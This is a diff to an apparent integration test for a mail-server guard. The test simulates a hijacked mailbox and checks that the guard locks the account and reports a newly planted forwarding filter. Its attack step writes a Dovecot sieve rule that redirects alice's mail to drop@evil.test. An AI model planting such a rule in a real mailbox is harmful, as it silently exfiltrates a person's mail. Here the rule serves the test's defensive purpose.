@@ -3,20 +3,23 @@
  * password blasts five thousand an hour through the same real server, three of ten to nobody: hers alone is held, within sixty messages.
  */
 import assert from 'node:assert/strict';
+import { mkdirSync, writeFileSync } from 'node:fs';
 import { mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { dirname, join } from 'node:path';
 import { setTimeout as pause } from 'node:timers/promises';
 import { test } from 'node:test';
 import type { GuardNews } from '../../src/guard/notices/news.ts';
 import { startGuard } from '../../src/guard/run.ts';
 import { linesOf } from '../servers/lab/await.ts';
+import { dialImap } from '../servers/lab/dialogue.ts';
 import { labClosed } from '../servers/lab/door.ts';
 import { startWorld } from '../servers/lab/world.ts';
 import { mailServers } from './mail-servers.ts';
 import type { Server } from './mail-servers.ts';
-import { deedsIn, logIn, openedIn, settingsAt } from './postmaster.ts';
+import { deedsIn, logIn, openedIn, postern, settingsAt } from './postmaster.ts';
 
+const sieve = '/var/spool/vmail/lab.test/alice/.dovecot.sieve';
 const readers = 2000;
 const perMessage = 40;
 const blastGapMs = 3_600_000 / 5000;
@@ -69,7 +72,7 @@ for (const { name, start, hook, listen } of mailServers)
       const state = await mkdtemp(join(tmpdir(), 'postern-story-'));
       const news: GuardNews[] = [];
       const guard = await startGuard(
-        settingsAt(state, hook).set('logs', [server.log]).set(`${hook}.listen`, listen),
+        settingsAt(state, hook).set('logs', [server.log]).set(`${hook}.listen`, listen).set('accounts.lookAgain', '2s'),
         (item) => news.push(item),
       );
       try {
@@ -80,14 +83,28 @@ for (const { name, start, hook, listen } of mailServers)
         const delivered = world.sink.messages.flatMap(({ recipients }) => recipients).length;
         assert.equal(delivered, readers * 0.9);
 
+        const session = await dialImap({ from: '203.0.113.50', to: world.dovecot.address, port: 143 });
+        assert.equal((await session.say('LOGIN alice@lab.test alicepw')).status, 'OK');
         const sent = await blast(server);
+        mkdirSync(dirname(sieve), { recursive: true });
+        writeFileSync(sieve, 'redirect "drop@evil.test";\n');
         assert.ok(sent >= 20 && sent <= blastMax, `${sent} messages`);
         await guard.settled();
         assert.deepEqual(
           openedIn(news).map(({ attack, actors }) => [attack, actors[0]?.value]),
           [['compromised-account', 'alice@lab.test']],
         );
-        assert.match(deedsIn(news)[0] ?? '', /^alice@lab\.test is locked: /);
+        assert.match(deedsIn(news)[0] ?? '', /^alice@lab\.test is locked: .*1 open imap session from 203\.0\.113\.50/);
+        // It looks again, and finds what is new.
+        for (let patience = 100; deedsIn(news).length < 2 && patience > 0; patience--) await pause(100);
+        const [, again = ''] = deedsIn(news);
+        assert.match(again, /^alice@lab\.test, 2s later: /);
+        assert.match(again, /1 open imap session from 203\.0\.113\.50/);
+        assert.match(again, /NEW since it began: \S+\/alice\/\.dovecot\.sieve \(sends to drop@evil\.test\)/);
+        assert.match(again, /its passwords are in \/etc\/dovecot\/users/);
+        session.hangUp();
+        const remains = JSON.parse(await postern('remains', '--json', 'alice@lab.test', '--state', state));
+        assert.deepEqual([remains.filters.length, remains.filters[0].isNew], [1, true]);
         // Bob still writes to whom he likes.
         const smtp = await logIn(server.address, '198.51.100.9', 'bob');
         await smtp.send('bob@lab.test', ['friend@remote.test'], 'Subject: hello\n\nhow are you');
